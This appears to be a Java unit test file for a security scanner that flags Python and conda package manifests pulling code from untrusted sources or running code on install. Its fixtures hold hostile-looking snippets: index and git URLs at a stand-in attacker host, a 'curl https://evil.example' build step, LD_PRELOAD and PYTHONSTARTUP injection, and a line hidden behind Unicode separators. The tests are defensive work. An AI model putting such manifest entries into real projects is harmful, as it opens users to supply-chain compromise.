package dev.redoubt.scan.internal.packages;

import static org.assertj.core.api.Assertions.assertThat;

import dev.redoubt.scan.InMemoryScans;
import dev.redoubt.scan.ScanVerdict;
import dev.redoubt.scan.ScannedFile;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class PackageFileTest {

  private static ScannedFile scan(String name, String text) {
    return InMemoryScans.scan(name, text.replace("¶", "\n").getBytes(StandardCharsets.UTF_8));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "conda.yaml|channels: [https://evil.example/conda]",
        "conda.yaml|channels:¶- somebody-else¶dependencies:¶- numpy",
        "conda.yaml|dependencies:¶- somebody-else::numpy",
        "conda.yaml|dependencies:¶- 'numpy[channel=https://evil.example]'",
        "conda.yaml|dependencies:¶- 'numpy[url=https://evil.example/numpy.conda]'",
        "conda.yaml|dependencies:¶- https://evil.example/numpy-1-0.tar.bz2",
        "conda.yaml|dependencies:¶- ./numpy-1-0.conda",
        "conda.yaml|dependencies:¶- pip:¶  - --extra-index-url https://evil.example",
        "conda.yaml|dependencies:¶- pip:¶  - evil @ git+https://evil.example/x",
        "conda.yaml|dependencies:¶- pip:¶  - \"numpy\\n-e .\"",
        "conda.yaml|dependencies:¶- pip: [numpy (>=1.0), -e .]",
        "conda.yaml|{dependencies: [{pip: [\"-e .\"]}]}",
        "conda.yaml|\"dependencies\" : [{\"pip\" : [\"-e .\"]}]",
        "conda.yaml|? dependencies¶: - pip:¶    - -e .",
        "conda.yaml|dependencies: [numpy]¶variables: {PIP_INDEX_URL: https://evil.example}",
        "conda.yaml|dependencies: [numpy]¶variables: {PYTHONSTARTUP: x.py}",
        "conda.yaml|dependencies: [numpy]¶variables: {LD_PRELOAD: ./x.so}",
        "conda.yaml|dependencies: [numpy]¶dependencies: [somebody::numpy]",
        "conda.yml|channels: [evil]",
        "environment.yml|channels: [evil]",
        "environment-gpu.yaml|channels: [evil]",
        "env.yaml|channels: [evil]",
        "other.yaml|channels: [evil]¶dependencies: [numpy]",
        "python_env.yaml|build_dependencies: [pip]¶dependencies: [-i https://evil.example]",
        "python_env.yaml|dependencies:¶- -r https://evil.example/r.txt",
        "other.yaml|build_dependencies: [pip]¶dependencies: [-e .]",
        "MLproject|name: x¶entry_points:¶  main:¶    command: 'python train.py'",
        "MLproject|docker_env:¶  image: evil/image",
        "cog.yaml|build:¶  run:¶  - curl https://evil.example",
        "cog.yaml|build:¶  python_packages: ['evil @ https://evil.example/x.whl']",
        "cog.yaml|predict: predict.py:Predictor",
        "bentofile.yaml|service: service:svc",
        "bentofile.yaml|python:¶  index_url: https://evil.example",
        "conda-lock.yml|package:¶- url: https://evil.example/x.conda",
        ".condarc|channel_alias: https://evil.example",
        "pyproject.toml|[build-system]¶requires = ['evil @ https://evil.example/x.whl']",
        "pyproject.toml|[build-system]¶requires = []¶backend-path = ['.']",
        "pyproject.toml|build-system = {backend-path = [\"backend\"], requires = []}",
        "pyproject.toml|[project]¶dependencies = ['evil @ git+https://evil.example/x']",
        "pyproject.toml|project.dependencies = [\"evil @ g\\u0069t+https://evil.example/x\"]",
        "pyproject.toml|[project.optional-dependencies]¶all = ['evil@file:x']",
        "pyproject.toml|[dependency-groups]¶dev = [{include-group = 'x'}, './evil']",
        "pyproject.toml|[[tool.uv.index]]¶url = 'https://evil.example/simple'",
        "pyproject.toml|[tool.uv]¶index-url = 'https://evil.example/simple'",
        "pyproject.toml|[tool.uv.pip]¶extra-index-url = ['https://evil.example']",
        "pyproject.toml|[tool.uv]¶find-links = ['wheels']",
        "pyproject.toml|[tool.uv.sources]¶numpy = { git = 'https://evil.example/x' }",
        "pyproject.toml|[tool.uv.sources]¶numpy = [{ path = '../x' }]",
        "pyproject.toml|[tool.uv]¶dev-dependencies = ['evil @ https://evil.example/x']",
        "pyproject.toml|[[tool.poetry.source]]¶name = 'x'¶url = 'https://evil.example'",
        "pyproject.toml|[tool.poetry.dependencies]¶x = {git = 'https://evil.example/x'}",
        "pyproject.toml|[tool.poetry.group.dev.dependencies.x]¶path = 'x'",
        "pyproject.toml|[tool.poetry.build]¶script = 'build.py'",
        "pyproject.toml|[tool.poetry]¶build = 'build.py'",
        "pyproject.toml|[[tool.pdm.source]]¶url = 'https://evil.example'",
        "pyproject.toml|[tool.pdm.build]¶custom-hook = 'hook.py'",
        "pyproject.toml|[tool.hatch.build.hooks.custom]",
        "pyproject.toml|[tool.hatch.build.targets.wheel.hooks.custom]¶path = 'x.py'",
        "pyproject.toml|[tool.hatch.metadata.hooks.custom]",
        "pyproject.toml|[tool.hatch.version]¶source = 'code'¶path = 'x.py'",
        "pyproject.toml|[tool.setuptools.cmdclass]¶build = 'x.Build'",
        "pyproject.toml|[tool.pixi.workspace]¶channels = ['https://evil.example']",
        "uv.toml|index-url = 'https://evil.example/simple'",
        "uv.toml|allow-insecure-host = ['evil.example']",
        "pixi.toml|[pypi-dependencies]¶x = { url = 'https://evil.example/x.whl' }",
        "pixi.toml|[workspace]¶channels = ['evil']",
        "Pipfile|[[source]]¶url = 'https://evil.example/simple'",
        "Pipfile|[packages]¶x = {git = 'https://evil.example/x'}",
        "Pipfile|[dev-packages]¶x = {path = '.', editable = true}",
        "Pipfile.lock|{\"_meta\": {\"sources\": [{\"url\": \"https://evil.example\"}]}}",
        "Pipfile.lock|{\"default\": {\"x\": {\"git\": \"https://evil.example/x\"}}}",
        "poetry.lock|[[package]]¶name = 'x'¶[package.source]¶type = 'git'¶url ="
            + " 'https://evil.example/x'",
        "uv.lock|[[package]]¶name = 'x'¶source = { registry = 'https://evil.example/simple' }",
        "uv.lock|[[package]]¶name = 'x'¶source = { git = 'https://evil.example/x' }",
        "uv.lock|[[package]]¶name = 'x'¶wheels = [{ url = 'https://evil.example/x.whl' }]",
        "pdm.lock|[[package]]¶name = 'x'¶git = 'https://evil.example/x'",
        "pylock.toml|[[packages]]¶name = 'x'¶vcs = { type = 'git', url = 'https://evil.example/x'"
            + " }",
        "pylock.dev.toml|[[packages]]¶name = 'x'¶index = 'https://evil.example/simple'",
        "setup.cfg|[options]¶install_requires =¶    numpy¶    evil @ https://evil.example/x",
        "setup.cfg|[options.extras_require]¶all = evil @ https://evil.example/x",
        "setup.cfg|[options]¶dependency_links = https://evil.example/",
        "setup.cfg|[easy_install]¶index-url: https://evil.example/",
        "setup.cfg|[global]¶command-packages = evil",
        "pip.conf|[global]¶index-url = https://evil.example/simple",
        "pip.conf|[install]¶extra-index-url =¶    https://pypi.org/simple¶    https://evil.example",
        "pip.ini|[global]¶trusted-host = evil.example",
        "setup.cfg|[options]¶install_requires = file: weights.bin",
        "setup.cfg|[options]¶install_requires = file: requirements.txt, ../other/requirements.txt",
        "pyproject.toml|[tool.setuptools.dynamic]¶dependencies = {file = ['weights.bin']}",
        "pyproject.toml|[tool.uv]¶python-install-mirror = 'https://evil.example'",
        "pdm.toml|[pypi]¶url = 'https://evil.example/simple'",
        "MLproject|name: x¶python_env: weights.bin",
        "MLmodel|flavors: {python_function: {loader_module: mlflow.sklearn, env: {conda:"
            + " weights.bin}}}",
      })
  void reportsOtherSources_andCodeThatRunsOnInstallation(String name, String text) {
    ScannedFile file = scan(name, text);
    assertThat(file.verdict()).as(name + ": " + text).isEqualTo(ScanVerdict.SUSPICIOUS);
    assertThat(InMemoryScans.rules(file)).contains("package-source");
    assertThat(file.detections())
        .allMatch(detection -> detection.message().length() < 400)
        .noneMatch(detection -> detection.message().contains("tools.jackson"));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "conda.yaml|name: env¶channels:¶- conda-forge¶- defaults¶dependencies:¶- python=3.11.7¶-"
            + " pip<=24.0¶- pip:¶  - mlflow==2.22.5¶  - numpy==2.1.0¶  - scikit-learn==1.5.2",
        "conda.yaml|channels: [https://conda.anaconda.org/conda-forge]¶dependencies:"
            + " [conda-forge::numpy=1.26, 'scipy >=1,<2', 'blas=*=openblas',"
            + " 'numpy[version=\">=1\",build=py*]']",
        "environment.yml|dependencies: [python 3.12.*, cuda-version>=12]¶variables: {MODEL_SIZE:"
            + " small}",
        "python_env.yaml|python: 3.11.7¶build_dependencies:¶- pip==24.0¶- setuptools==69¶-"
            + " wheel==0.43¶dependencies:¶- -r requirements.txt",
        "MLproject|name: x¶python_env: python_env.yaml",
        "pyproject.toml|[build-system]¶requires = ['setuptools>=61', 'wheel']¶build-backend ="
            + " 'setuptools.build_meta'¶[project]¶name = 'x'¶version = '1'¶dependencies ="
            + " ['numpy>=1; python_version > \"3.9\"']¶[project.urls]¶Homepage ="
            + " 'https://example.org'¶[tool.ruff]¶line-length = 100",
        "pyproject.toml|[tool.poetry]¶name = 'x'¶homepage ="
            + " 'https://example.org'¶[tool.poetry.dependencies]¶python = '^3.10'¶numpy = {version"
            + " = '^1.0', extras = ['x'], optional = true}¶[[tool.poetry.source]]¶name = 'PyPI'¶url"
            + " = 'https://pypi.org/simple'",
        "pyproject.toml|[dependency-groups]¶dev = ['pytest>=8', {include-group = 'lint'}]¶lint ="
            + " ['ruff']¶[tool.uv]¶dev-dependencies = ['mypy']¶[tool.uv.sources]¶mine = { workspace"
            + " = true }¶[[tool.uv.index]]¶url = 'https://pypi.org/simple'",
        "pyproject.toml|[tool.hatch.version]¶path ="
            + " 'x/__init__.py'¶[tool.hatch.envs.default]¶dependencies = ['pytest']",
        "pyproject.toml|[tool.setuptools.dynamic]¶dependencies = {file ="
            + " ['requirements.txt']}¶[tool.setuptools.packages.find]¶where = ['src']",
        "Pipfile|[[source]]¶url = 'https://pypi.org/simple'¶verify_ssl = true¶name ="
            + " 'pypi'¶[packages]¶numpy = '*'¶scipy = {version = '>=1', extras ="
            + " ['x']}¶[requires]¶python_version = '3.11'",
        "Pipfile.lock|{\"_meta\": {\"sources\": [{\"name\": \"pypi\", \"url\":"
            + " \"https://pypi.org/simple\"}]}, \"default\": {\"numpy\": {\"hashes\":"
            + " [\"sha256:00\"], \"index\": \"pypi\", \"version\": \"==1.0\"}}}",
        "poetry.lock|[[package]]¶name = 'numpy'¶version = '1.0'¶files = [{file = 'numpy-1.0.whl',"
            + " hash = 'sha256:00'}]¶[metadata]¶lock-version = '2.1'",
        "uv.lock|version = 1¶[[package]]¶name = 'me'¶source = { editable = '.' }¶[[package]]¶name ="
            + " 'numpy'¶version = '1.0'¶source = { registry = 'https://pypi.org/simple' }¶sdist = {"
            + " url = 'https://files.pythonhosted.org/packages/00/numpy-1.0.tar.gz', hash ="
            + " 'sha256:00' }",
        "setup.cfg|[metadata]¶name = x¶url = https://example.org¶[options]¶packages ="
            + " find:¶install_requires =¶    numpy>=1¶    scipy ; python_version >"
            + " '3.9'¶[flake8]¶max-line-length = 100",
        "pip.conf|[global]¶timeout = 60¶index-url = https://pypi.org/simple",
        "setup.cfg|[options]¶install_requires = file: requirements.txt¶[options.extras_require]¶x ="
            + " file: requirements/x.txt",
        "MLmodel|flavors:¶  python_function:¶    loader_module: mlflow.sklearn¶    env:¶     "
            + " conda: conda.yaml¶      virtualenv: python_env.yaml",
        "settings.yaml|dependencies:¶- name: chart¶  repository: https://charts.example.org",
        ".readthedocs.yaml|python:¶  install:¶  - requirements: docs/requirements.txt",
      })
  void passesOrdinaryLists(String name, String text) {
    assertThat(scan(name, text).detections()).as(name).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "conda.yaml|dependencies: [numpy",
        "conda.yaml|- numpy",
        "conda.yaml|just words",
        "conda.yaml|x: &x [numpy]¶dependencies: *x",
        "conda.yaml|x: &x {dependencies: [numpy]}¶<<: *x",
        "conda.yaml|dependencies: ['numpy; rm']",
        "conda.yaml|dependencies: [{pip: ['numpy=1']}]",
        "python_env.yaml|dependencies:¶- what is this",
        "pyproject.toml|[build-system",
        "pyproject.toml|a = 1¶a = 2",
        "pyproject.toml|[project]¶dependencies = ['numpy=1']",
        "pyproject.toml|[project]¶dependencies = [\"numpy\\n-e .\"]",
        "Pipfile|not toml",
        "Pipfile.lock|{",
        "Pipfile.lock|[]",
        "setup.cfg|words",
        "setup.cfg|[options]¶install_requires = numpy=1",
        "uv.lock|package = {",
      })
  void isUnreadable_whenAnInstallerCannotReadIt(String name, String text) {
    assertThat(scan(name, text).verdict()).as(name + ": " + text).isEqualTo(ScanVerdict.UNREADABLE);
  }

  @ParameterizedTest
  @ValueSource(strings = {"\u2028", "\u0085", "\u2029"})
  void readsALineThatOnlyPythonRecognizes(String end) {
    String hidden = "name: x # words" + end + "channels: [evil]\n";
    assertThat(scan("conda.yaml", hidden).verdict()).isNotEqualTo(ScanVerdict.CLEAN);
  }

  @Test
  void appliesNames_inArchivesToo() {
    byte[] zip =
        dev.redoubt.scan.ZipBuilder.of(
            dev.redoubt.scan.ZipBuilder.stored(
                "m/conda.yaml", InMemoryScans.bytes("channels: [evil]")));
    assertThat(InMemoryScans.rules(InMemoryScans.scan("m.zip", zip))).contains("package-source");
  }

  @Test
  void isNotAList_whenTheNameOnlyResemblesOne() {
    for (String name :
        List.of("conda.md", "environment.json", "requirements.md", "environments/x.txt")) {
      assertThat(PackageFile.named(name)).as(name).isEmpty();
    }
  }
}
